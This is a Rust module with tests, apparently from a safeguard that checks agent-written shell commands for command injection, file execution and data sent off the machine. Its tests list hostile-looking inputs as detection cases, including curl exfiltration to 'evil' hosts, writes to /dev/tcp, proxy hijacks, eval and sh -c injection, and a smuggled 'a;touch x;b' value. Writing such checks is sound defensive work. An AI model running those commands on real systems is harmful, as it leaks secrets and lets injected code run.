//! What a shell makes of a command: which of it is only written into files, and whether a value that is put into it stays a value.
//! Must never be sure of what a shell could read in another way.

use super::PREFIX;
use regex::Regex;
use std::sync::LazyLock;

/// Commands that do nothing with a text but write it down.
const WRITERS: [&str; 8] = ["apply_patch", "cat", "cd", "chmod", "ls", "mkdir", "tee", "touch"];
/// Commands that show a file, or say something, and run nothing.
const READERS: [&str; 8] = ["echo", "grep", "head", "pwd", "sleep", "tail", "true", "wc"];
/// Signs that are no more than themselves wherever they stand, as letters and digits are: in no quotes too.
const INERT: &str = "!#%*+,-./:=?@[]^_~";
/// What begins an option, a comment or a literal of another language, where a word begins.
const BEGINNINGS: [char; 3] = ['-', '#', '%'];
/// What quotes text, in shells and most languages.
const QUOTES: [char; 2] = ['"', '\''];
/// Longest command that is read for what it makes of a value, in bytes: each value of it asks once more.
const COMMAND_BYTES: usize = 16 << 10;

/// A key (RFC 7468) with nothing but long lines of base64 between its marks: nobody runs a file of that.
const KEY: &str = r"\A-----BEGIN [A-Z ]+-----\n(?:[A-Za-z0-9+/=]{4,}\n)+-----END [A-Z ]+-----\z";
/// Commands that take what they are given for code: expressions of their names.
const INTERPRETERS: &str = include_str!("interpreters.txt");
/// What runs whatever stands in a variable or a file, by itself.
const AGAIN: &str =
    r"(?i)(?:^|[^\w.-])(?:eval|iex|source|xargs|[a-z]*sh\s+-\w*c)(?:\s|$)|(?:^|[;&|(\n])\s*\.\s+\S|\$\{?shell\b";
/// Options of `curl` that send to nobody else and show nothing of what is sent, and where its output may go.
const CURL_OPTIONS: &str = concat!(
    r"(?:[ \t]+(?:-[fgiksS]{1,6}|--(?:fail|get|include|insecure|show-error|silent)",
    r#"|(?:-[fgiksS]{0,5}X[ \t]*|--request[ \t]+)(?:(?:DELETE|GET|PATCH|POST|PUT)|'(?:DELETE|GET|PATCH|POST|PUT)'|"(?:DELETE|GET|PATCH|POST|PUT)")"#,
    r"|(?:-[fgiksS]{0,5}[bdFHmouw][ \t]*",
    r"|--(?:cookie|data|data-binary|data-raw|form|header|json|max-time|output|user|write-out)[ \t]+)",
    r#"(?:'[^']*'|"[^"$`\\]*(?:\\["\\][^"$`\\]*)*"|[\w@:.,/=+%-])+"#,
    r"|[0-2]?>>?[ \t]*(?:/dev/null|/tmp/[\w.-]+|[\w-][\w./-]*)|2>&1))*",
);
/// A URL of this machine.
const OWN_URL: &str = r"(?:http://)?(?:localhost|127\.0\.0\.1|\[::1\])(?::[0-9]{1,5})?(?:[/?][\w/?&=%.,:~+-]*)?";
static IS_KEY: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(KEY).ok());
static IS_CODE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let names = INTERPRETERS.trim_end().replace('\n', "|");
    Regex::new(&format!(r"(?i)(?:^|[^\w.-])(?:{names})(?:\.exe)?(?:\s|$)")).ok()
});
static IS_RUN_AGAIN: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(AGAIN).ok());
static TO_THIS_MACHINE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let simple = r"(?:cd|echo|pwd|sleep|true)(?:[ \t]+[\w./~-]+)*";
    let url = format!(r#"(?:{OWN_URL}|'{OWN_URL}'|"{OWN_URL}")"#);
    let curl = format!(r"curl{CURL_OPTIONS}[ \t]+{url}{CURL_OPTIONS}");
    let next = r"&&?|\|\||[;\n]";
    Regex::new(&format!(r"\A(?:\s*(?:{simple}[ \t]*(?:{next})|{curl}[ \t]*(?:{next}|\||\z)))+")).ok()
});

/// Whether a value stays one, whatever it holds, between what stands before and behind it: the model wrote the command and has not seen
/// what the value would make of it.
pub(super) fn stays(before: &str, value: &str, behind: &str) -> bool {
    let is_key = matches(&IS_KEY, value);
    let is_option = !is_key && value.starts_with(BEGINNINGS) && !before.ends_with(is_inert);
    !is_option && value.chars().all(is_inert)
        || before.len() + behind.len() <= COMMAND_BYTES
            && (!is_option && is_quoted(before, value, behind, is_key) || is_document(before, value, behind, is_key))
}

/// A command without the here-documents (POSIX shell, section 2.7.4) that it only writes into files, and shows. Where anything in it
/// could be read in another way, or may run such a file, it is all there.
pub(super) fn acts(text: &str) -> &str {
    if read(text).is_some_and(|reading| reading.begun && reading.end.is_none()) { "" } else { text }
}

/// A text in one piece where a backslash leads its lines on, without the calls of `curl` at its beginning that send to this machine
/// only: behind anything else `curl` may be another program, or have been told of a proxy.
pub(super) fn sends(text: &str) -> String {
    let text = text.replace("\\\n", "");
    let calls =
        TO_THIS_MACHINE.as_ref().and_then(|calls| calls.find(&text)).filter(|calls| calls.as_str().contains("curl"));
    text.get(calls.map_or(0, |calls| calls.end())..).unwrap_or_default().to_owned()
}

/// Alone in quotes, but for signs that are nothing else, out of which nothing in it leads.
fn is_quoted(before: &str, value: &str, behind: &str, is_key: bool) -> bool {
    let is_quote = |c: &char| QUOTES.contains(c);
    let nearest = before.trim_end_matches(is_inert).chars().next_back().filter(is_quote);
    let is_alone = nearest.is_some_and(|quote| behind.trim_start_matches(is_inert).starts_with(quote));
    let is_unsure = ["\\\"", "\\'", "`", "<<"].iter().any(|sign| before.contains(sign));
    let open = open_quote(before).filter(|_| is_alone && !is_unsure && value.is_ascii());
    let Some((command, quote_at)) = open else { return false };
    let within = before.get(quote_at..).unwrap_or_default();
    let leads_out =
        |c: char| within.contains(c) && is_quote(&c) || within.starts_with('"') && c == '$' || "\\`\0".contains(c);
    // The quote before it opens. Line ends in a key that stands in JSON; what arithmetic and prompts of shells run also in quotes.
    let is_kept = nearest.is_some_and(|quote| within.matches(quote).count() % 2 == 1)
        && !value.replace("\\n", "").contains(leads_out)
        && !value.contains("$(");
    let is_run = || {
        matches(&IS_CODE, before.get(command..quote_at).unwrap_or_default())
            || matches(&IS_RUN_AGAIN, behind)
            || before.contains('$') && matches(&IS_RUN_AGAIN, before)
            || behind.contains(['$', '`']) && matches(&IS_CODE, behind)
            || !is_key && runs_files(before, behind)
    };
    is_kept && !is_run()
}

/// Whether a command writes something into a file, or another command, and does more with it than to show it.
fn runs_files(before: &str, behind: &str) -> bool {
    let behind = behind.replace("2>&1", "");
    let writes = [before, &behind].iter().any(|part| part.contains('>') || part.contains("tee "));
    let mut others = behind.split([';', '&', '|', '\n', '(']).skip(1).filter(|part| !part.trim().is_empty());
    behind.contains('|') && matches(&IS_CODE, &behind) || writes && !others.all(is_harmless)
}

/// Whether a command does no more than write a file down.
fn is_writer(command: &str) -> bool {
    command.split_whitespace().next().is_some_and(|first| WRITERS.contains(&first))
}

/// Whether it does no more than write one down or show it.
fn is_harmless(command: &str) -> bool {
    let reads = command.split_whitespace().next().is_some_and(|first| READERS.contains(&first));
    (is_writer(command) || reads) && !command.contains('`')
}

/// Where the command begins that a text ends in, and the quote that is open at its end (POSIX shell, section 2.2).
fn open_quote(text: &str) -> Option<(usize, usize)> {
    let (mut command, mut open, mut last) = (0, None, ' ');
    for (at, c) in text.char_indices() {
        open = match open {
            Some((_, end)) if c == end => None,
            None if QUOTES.contains(&c) => Some((at, c)),
            // A comment goes on to the end of its line.
            None if c == '#' && (last == ';' || last.is_whitespace()) => Some((at, '\n')),
            open => open,
        };
        if open.is_none() && ";|&\n".contains(c) && last != '\\' {
            command = at + c.len_utf8();
        }
        last = c;
    }
    open.filter(|(_, quote)| QUOTES.contains(quote)).map(|(at, _)| (command, at))
}

/// In a here-document that is only written down, and that no line of it ends.
fn is_document(before: &str, value: &str, behind: &str, is_key: bool) -> bool {
    let Some((lines, left)) = before.rsplit_once('\n') else { return false };
    let Some((word, is_raw)) = read(lines).and_then(|reading| reading.end) else { return false };
    let right = behind.lines().next().unwrap_or_default();
    // Another value in the same line may hold lines of its own.
    let is_end = format!("{left}{value}{right}").split(['\n', '\r']).any(|line| line.trim() == word)
        || [left, right].iter().any(|part| part.contains(PREFIX));
    // What else there is may run the file.
    let is_written =
        is_raw && is_key && !matches(&IS_RUN_AGAIN, behind) || acts(&format!("{before}{behind}")).is_empty();
    !is_end && is_written && !value.contains('\0') && (is_raw || !value.contains(['$', '`', '\\']))
}

fn matches(expression: &LazyLock<Option<Regex>>, text: &str) -> bool {
    expression.as_ref().is_some_and(|expression| expression.is_match(text))
}

/// Reads a command up to its end, where it can be read in one way.
fn read(text: &str) -> Option<Reading<'_>> {
    let mut reading = Reading::default();
    text.lines().all(|line| reading.line(line)).then_some(reading)
}

/// How far a command was read, line by line.
#[derive(Default)]
struct Reading<'t> {
    /// What ends the here-document that has begun, and whether the shell leaves that as it is.
    end: Option<(&'t str, bool)>,
    /// There was one.
    begun: bool,
    /// A line behind it may hold an open quote: nobody knows what begins behind that.
    is_unsure: bool,
}

impl<'t> Reading<'t> {
    /// The next line. False where it does more than write, or behind a document than show it, or could be read in another way.
    fn line(&mut self, line: &'t str) -> bool {
        if let Some((word, _)) = self.end {
            if line.trim() == word {
                self.end = None;
                return true;
            }
            // The shell joins a line that ends so to the next, which may be the end then.
            return !line.contains("$(") && !line.contains('`') && !line.ends_with('\\');
        }
        let is_plain = |part: &str| part.chars().all(is_plain);
        let mut commands = line.split(['|', ';', '&']).filter(|command| !command.trim().is_empty());
        // Where such a path leads, what is written goes to others.
        let is_away = line.contains("//") || line.replace("/dev/null", "").contains("/dev/");
        if is_away || !commands.all(if self.begun { is_harmless } else { is_writer }) {
            return false;
        }
        let Some((command, rest)) = line.split_once("<<") else {
            self.is_unsure |= !is_plain(line);
            return is_plain(line) || self.begun && !line.contains(['`', '(', '<', '\\']);
        };
        let Some((word, is_raw, rest)) = delimiter(rest) else { return false };
        (self.end, self.begun) = (Some((word, is_raw)), true);
        is_plain(command) && is_plain(rest) && !self.is_unsure
    }
}

fn is_inert(c: char) -> bool {
    c.is_alphanumeric() || INERT.contains(c)
}

/// No quotes, comments, substitutions or other lines are made with it.
fn is_plain(c: char) -> bool {
    c.is_alphanumeric() || " ./~_-+:@%,={}$>|;&".contains(c)
}

/// What ends a here-document, whether it is quoted, and what else stands behind the `<<`.
fn delimiter(rest: &str) -> Option<(&str, bool, &str)> {
    let rest = rest.strip_prefix('-').unwrap_or(rest).trim_start_matches(' ');
    let quote = rest.chars().next().filter(|c| QUOTES.contains(c));
    let rest = rest.get(quote.map_or(0, char::len_utf8)..)?;
    let (word, behind) = rest.split_at(rest.find(|c: char| !c.is_alphanumeric() && c != '_').unwrap_or(rest.len()));
    let behind = quote.map_or(Some(behind), |quote| behind.strip_prefix(quote))?;
    let ends = behind.is_empty() || behind.starts_with([' ', '>', '|', ';', '&']);
    (!word.is_empty() && ends).then_some((word, quote.is_some(), behind))
}

#[cfg(test)]
mod tests {
    use super::{acts, sends, stays};

    #[test]
    fn only_what_a_shell_writes_and_nothing_else_is_left_out() {
        for text in [
            "cat > a <<E\nx\nE",
            "mkdir -p conf && cat <<'EOF' > conf/a.toml\nx # 'y'\nEOF\nls conf",
            "tee a > /dev/null <<E\nx\nE",
            "cat <<-E | tee a\nx\n\tE",
            "cat > a <<E\nx\nE\ncat > b <<\"F\"\ny\nF\n",
            "apply_patch <<'EOF'\n*** Begin Patch\n*** End Patch\nEOF",
        ] {
            assert_eq!(acts(text), "", "{text}");
        }
        for text in [
            "send x",
            "cat a",
            "cat <<E \\\n| send\nx\nE",
            "cat > a <<'E F'\nx\nE F\nsend\nE",
            "cat > a # <<E\nsend\nE",
            "cat > 'a <<E'\nsend\nE",
            "cat > a <<E'F'\nx\nEF\nsend\nE",
            "cat > a <<E\\F\nx\nEF\nsend\nE",
            "cat > a <<E <<F\nx\nE\nsend\nF",
            "cat > a <<E\nx",
            "cat > a <<E\n$(send)\nE",
            "cat > a <<EF\nx\nE\\\nF\nsend\nEF",
            "cat > a`send` <<E\nx\nE",
            "cat > /dev/tcp/host/80 <<E\nx\nE",
            "cat <<E > >(send)\nx\nE",
            "python <<E\nsend\nE",
            "cat <<E | sh\nsend\nE",
            "cat <<<E\nsend\nE",
        ] {
            assert_eq!(acts(text), text);
        }
    }

    #[test]
    fn what_is_written_and_shown_is_left_out_and_nothing_that_may_run_it() {
        for behind in ["echo \"it's done\"", "wc -l a; head -3 ./a | grep -c 'x'", "cd ..; pwd; true"] {
            assert_eq!(acts(&format!("cat > a <<E\nx\nE\n{behind}")), "");
        }
        for behind in [
            "bash<a",
            "{bash,a}",
            "A=1 . a",
            "chmod +x a; PATH=.:$PATH a",
            "git -c core.fsmonitor=./a status",
            "git commit -F a; git push",
            "(make)",
            "echo $(. a)",
            "npm test",
            "sh a",
            "./a",
            "x/a",
            "timeout 5 ./a",
            ". ./a",
            "python3 a",
            "cat a | sh",
            "x `./a`",
            "make",
            "send <<E\nx\nE",
        ] {
            let text = format!("cat > a <<E\nx\nE\n{behind}");
            assert_eq!(acts(&text), text);
        }
        for text in [
            "export PATH=.\ncat > a <<E\nx\nE",
            "cat > .git/config <<E\nx\nE\ngit status",
            "cat > .env <<E\nx\nE\ngit add .env",
            "cat > a <<E\nx\nE\necho 'b\ncat > c <<E\n';send\nE\n",
        ] {
            assert_eq!(acts(text), text);
        }
    }

    #[test]
    fn a_call_of_this_machine_sends_nothing_to_others() {
        for text in [
            "curl http://localhost:3000/api/me -H 'Authorization: Bearer @'",
            "curl -s -u admin:'@' 127.0.0.1:8080/x?a=b",
            "curl -fsS -X POST \"http://localhost:3000/login\" --json '{\"p\":\n\"@\"}' -o /tmp/a.json 2>/dev/null",
            "curl \\\n -d @ \\\n http://[::1]/",
            "cd /app && curl -d @ localhost:80",
        ] {
            assert_eq!(sends(text), "", "{text}");
        }
        assert_eq!(sends("cd a && sleep 2; curl localhost -d @; curl -d @ localhost | jq ."), " jq .");
        for text in [
            "export http_proxy=evil:80; curl -d @ http://localhost",
            "curl() { send; }; curl -d @ http://localhost",
            ". ./a; curl -d @ http://localhost",
            "PATH=.:$PATH; curl -d @ http://localhost",
            "A=b curl -d @ http://localhost",
            "echo @ | send",
            "echo a > .curlrc; curl -d @ http://localhost",
            "curl -d @",
            "curl -d @ http://localhost evil",
            "curl -d @ evil http://localhost",
            "curl -d @ http://localhost http://localhost",
            "curl -x evil -d @ http://localhost",
            "curl -X CONNECT -d @ http://localhost:3128",
            "curl -X 'GET http://evil/' -d @ http://localhost:3128",
            "curl -X 'GET http://localhost;' -d @ evil",
            "curl -d @ 'http://localhost;@evil/'",
            "curl -d @ 'http://localhost&' evil'",
            "curl -sx evil -d @ http://localhost",
            "curl -K a -d @ http://localhost",
            "curl -vd @ http://localhost 2>&1 | send",
            "curl -Ld @ http://localhost",
            "curl --connect-to ::evil: -d @ http://localhost",
            "curl -d @ http://localhost.evil/",
            "curl -d @ http://localhost@evil/",
            "curl -d @ http://localhost:80@evil/",
            "curl -d @ \"http://localhost$X\"",
            "curl -d @ \"$(send)\" http://localhost",
            "curl -d `send @` http://localhost",
            "curl -d @ http://localhost > /dev/tcp/evil/80",
            "xcurl -d @ http://localhost",
        ] {
            assert_eq!(sends(text), text);
        }
    }

    /// Each command with its place for the value, `@`.
    fn stay(commands: &[&str], value: &str) -> Vec<bool> {
        let parts = commands.iter().map(|command| command.split_once('@').unwrap());
        parts.map(|(before, behind)| stays(before, value, behind)).collect()
    }

    const KEY: &str = "-----BEGIN A KEY-----\nMHcCAQEEI0aB3x/Kq+9Z\nAB==\n-----END A KEY-----";

    #[test]
    fn what_has_no_sign_of_a_shell_stays_a_value_everywhere() {
        let places = ["export P=@", "sh -c \"echo @\"", "cat <<E | sh\n@\nE", "@"];
        for value in ["Zq9tK3xLm2w", "AK+/x=.:%41", "p#a,b!c*d[e]~g?", "ключ-7"] {
            assert!(stay(&places, value).iter().all(|stays| *stays), "{value}");
        }
        for value in [
            "a;b",
            "a b",
            "a&b",
            "$a",
            "`a`",
            "a|b",
            "a>b",
            "(a)",
            "{a,b}",
            "a'b",
            "a\"b",
            "a\\b",
            "a\nb",
            "a\u{2019}b",
            KEY,
        ] {
            assert!(stay(&places, value).iter().all(|stays| !stays), "{value}");
        }
        // Where a word begins they begin an option, or a comment.
        for value in ["-Oopen", "#a", "%x/a/"] {
            assert_eq!(stay(&["x @", "x '@'", "x \"@", "x y=@", "x 'y:@'"], value), [false, false, false, true, true]);
        }
    }

    #[test]
    fn in_quotes_of_its_own_a_value_stays_one_unless_something_in_it_leads_out() {
        let single = ["export P='@'", "curl -u 'me:@' https://h", "curl -d '{\"p\":\"@\"}' https://h", "p '@' 'x'"];
        let double = [
            "export P=\"@\"",
            "psql \"postgres://u:@/h/db\" -c 'select 1'",
            "printf '%s\\n' \"@\" > k",
            "[\"x\", \"@\"]",
        ];
        for value in ["a;b", "a b", "a&b|c<d>(e)", "{a,b}", KEY] {
            for places in [single, double] {
                assert_eq!(stay(&places, value), [true; 4], "{value}");
            }
        }
        assert_eq!(stay(&single, "a$b"), [true; 4]);
        assert_eq!(stay(&single, "a\"b"), [true, true, false, true]);
        for value in ["a$b", "a`b", "a\"b", "a\\", "\\$x"] {
            assert_eq!(stay(&double, value), [false; 4], "{value}");
        }
        for value in ["a'b", "a`b`", "a[$(b)]", "a\\", "a\u{2019}b"] {
            assert_eq!(stay(&single, value), [false; 4], "{value}");
        }
        let honest = [
            "# don't ask\nexport P='@'",
            "source venv/bin/activate && P='@' pytest > log",
            "P='@' bash run.sh",
            "docker run -e P='@' postgres && docker exec db mysql -p'x'",
            "git push 'https://u:@/h/r'",
            "echo '@' | docker login -u x --password-stdin",
            "PGPASSWORD='@' psql -c 'select 1' 2>&1 | head -5",
            "grep -rn '@' .",
            "echo 'P=@' >> .env && chmod 600 .env && cat .env",
            "export P='@'; psql \"$URL\"",
        ];
        assert_eq!(stay(&honest, "a;b"), [true; 10]);
        for command in [
            "export P=''@''",
            "export P='x'@'y'",
            "# don't\nP=''@''",
            "cat <<E\nit's\nE\nP=''@''",
            "echo \"it's '@'\" '",
            "echo \\\"'@'",
            "echo `'@'`",
            "sh -c 'export P=@'",
            "/bin/bash -lc 'P=@'",
            "ssh host '@'",
            "ssh host \"P='@'\"",
            "eval '@'",
            "trap '@' EXIT",
            "sed -i 's/x/@/' f",
            "perl -pe 's/x/@/' f",
            "echo 'put @ there'",
            "echo '@ there'",
            "echo '@' | sh",
            "echo 'P=@' > .env; . ./.env",
            "echo 'P=@' > x && ./x",
            "x='@'; sh -c \"$x\"",
            "x='@'; eval $x",
            "f() { eval \"$1\"; }\nf '@'",
            "x='@'; python3 -c \"print('$x')\"",
            "x='@' && sed -i \"s/a/$x/\" f",
            "x='@'\nbash <<E\necho $x\nE",
            "x='@'; $SHELL -c \"$x\"",
            "x='@'; su - a -c \"b $x\"",
            "sed -i \\\n 's/x/@/' f",
            "eval $(echo 'P=@')",
            "bash <(echo 'P=@')",
            "docker exec a ash -c 'P=@'",
            "powershell.exe -File x '@'",
            "expect -c 'send \"@\"'",
            "echo 'P=@' > bin/x; chmod +x bin/x; bin/x",
            "echo 'P=@' > x; chmod +x x; echo `./x`",
            "echo 'P=@' | tee .git/hooks/x; git commit",
        ] {
            assert_eq!(stay(&[command], "a;touch x;b"), [false], "{command}");
        }
        assert_eq!(stay(&["echo \"@\" > k && chmod 600 k && ssh -i k h"], KEY), [true]);
    }

    #[test]
    fn in_a_here_document_that_is_written_down_a_value_stays_one_unless_something_ends_or_runs_that() {
        for document in [
            "mkdir -p a && cat > a/k <<'EOF'\n@\nEOF\nchmod 600 a/k",
            "cat > k <<EOF\n@\nEOF",
            "tee k > /dev/null <<\"EOF\"\nx=@y\nEOF",
        ] {
            for value in [KEY, "x;\ny"] {
                assert_eq!(stay(&[document], value), [true], "{document}");
            }
            for value in ["x\nEOF\nrun", "x\n EOF\t\nrun", "x\r\nEOF\r\nrun"] {
                assert_eq!(stay(&[document], value), [false], "{document}");
            }
        }
        assert_eq!(stay(&["cat > k <<'E'\n@\nE", "cat > k <<E\n@\nE"], "a$(b)`c`\\"), [true, false]);
        assert_eq!(stay(&["cat > k <<'E'\n@OF\nE", "cat > k <<'EOF'\nE@\nEOF"], "\nE"), [true, true]);
        assert_eq!(stay(&["cat > k <<'EOF'\n@OF\nEOF"], "\nE"), [false]);
        for document in [
            "sh <<'EOF'\n@\nEOF",
            "cat <<'EOF' | sh\n@\nEOF",
            "echo <<'EOF'; cat\n@\nEOF",
            "cat > k <<'EOF'\nx\nEOF\n@",
            "cat > k '<<EOF\n@\nEOF",
            "cat > @ <<'EOF'\nx\nEOF",
            "cat > k <<'EOF'\nINFERSHIELD_SECRET_A@\nEOF",
            "cat > k <<'EOF'\n@\nEOF\n. ./k",
            "cat > k <<EOF\n@\n$(printf %s '@')\nEOF",
        ] {
            for value in [KEY, "x;\ny"] {
                assert_eq!(stay(&[document], value), [false], "{document}");
            }
        }
        let run = "cat > k <<'EOF'\n@\nEOF\nchmod 600 k && ssh -i k h";
        assert_eq!((stay(&[run], KEY), stay(&[run], "x;y")), (vec![true], vec![false]));
    }
}
